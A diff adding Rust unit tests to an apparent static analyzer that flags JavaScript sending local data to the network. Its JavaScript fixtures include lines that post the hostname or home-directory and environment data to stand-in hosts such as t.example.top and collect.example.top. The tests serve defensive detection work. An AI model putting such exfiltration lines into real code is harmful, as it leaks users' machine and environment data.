@@ -1837,3 +1837,87 @@ fn a_helper_made_of_its_arguments_carries_each_calls_own() {
         fetch('https://t.example.top/log', { method: 'POST', body: withHost({ event: 'start' }) });");
     assert_eq!(reads.flows.len(), 1, "{:#?}", reads.flows);
 }
+
+#[test]
+fn a_function_that_returns_its_arguments_carries_each_calls_own() {
+    // copilot's error formatter (called from hundreds of places) formats a settings object in
+    // one and a download failure in another: not a helper by its text (`Error`, `instanceof`).
+    let src = "const os = require('os');
+        function fmt(e) { return e instanceof Error ? e.message : describe(e); }
+        function describe(v) { let s; try { s = JSON.stringify(v); } catch { return '[object]'; } return s; }
+        console.log(fmt({ home: os.homedir(), env: process.env }));
+        console.log(fmt(new Error('x')));
+        function report(err) { return fetch('https://t.example.top/fail?m=' + fmt(err)); }
+        report(new Error('download failed')); report('timeout'); report(404); report(null);
+        SEND";
+    let neg = run(&src.replace("SEND", ""));
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    let pos = run(&src.replace(
+        "SEND",
+        "fetch('https://t.example.top/h', { method: 'POST', body: fmt({ h: os.hostname() }) });",
+    ));
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+    // A function whose result is a request's answer returns data of its own: what a caller
+    // put in the request's URL is not in the answer.
+    let answer = run("const https = require('https');
+        function fetchJson(url) {
+          return new Promise((resolve) => {
+            https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c));
+              res.on('end', () => resolve(JSON.parse(Buffer.concat(chunks).toString()))); });
+          });
+        }
+        async function release(owner) { return fetchJson(`https://api.github.com/repos/${owner}/x/releases/latest`); }
+        async function a() { const r = await release('x'); https.get(r.tarball_url, () => {}); }
+        async function b() { const r = await release(process.cwd()); https.get(r.tarball_url, () => {}); }
+        a(); b(); release('y'); release('z'); release('w');");
+    assert_eq!(answer.flows.len(), 1, "{:#?}", answer.flows);
+    assert!(
+        answer.flows[0]
+            .steps
+            .iter()
+            .any(|s| s.what.contains("releases/latest")),
+        "{:#?}",
+        answer.flows
+    );
+}
+
+#[test]
+fn a_promise_carries_what_it_is_resolved_with() {
+    let src = "const os = require('os');
+        async function main() {
+          const h = await new Promise((resolve) => { resolve(os.hostname()); });
+          await fetch('https://collect.example.top/?h=' + h);
+        }
+        main();";
+    assert_eq!(run(src).flows.len(), 1);
+    // `.then(cb)` is what the callback returns.
+    let then = run("const os = require('os');
+        Promise.resolve(os.hostname()).then((h) => 'fixed').then((v) => fetch('https://c.example.top/?v=' + v));");
+    assert!(then.flows.is_empty(), "{:#?}", then.flows);
+}
+
+#[test]
+fn request_options_that_set_the_request_up_are_not_sent() {
+    let neg = run("const https = require('https'); const os = require('os');
+        const agent = new https.Agent({ ca: require('fs').readFileSync(os.homedir() + '/ca.pem') });
+        https.get('https://api.example.top/v1', { agent, signal: AbortSignal.timeout(5000), lookup: (h, o, cb) => cb(null, os.homedir()) });");
+    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
+    let pos = run("const https = require('https'); const os = require('os');
+        https.get('https://api.example.top/v1', { headers: { 'x-host': os.hostname() } });");
+    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
+}
+
+#[test]
+fn a_loader_returns_what_it_loads_not_where_it_looks() {
+    let src = "const os = require('os');
+        async function channel() {
+          const s = await native.userSettingsLoad({ homeDirectory: os.homedir(), environment: process.env });
+          return s.updateChannel;
+        }
+        channel().then((c) => fetch('https://api.example.top/releases/' + c));";
+    assert!(run(src).flows.is_empty());
+    let not_a_load = run("const os = require('os');
+        const s = native.threadStart({ homeDirectory: os.homedir() });
+        fetch('https://api.example.top/x?s=' + s);");
+    assert_eq!(not_a_load.flows.len(), 1, "{:#?}", not_a_load.flows);
+}
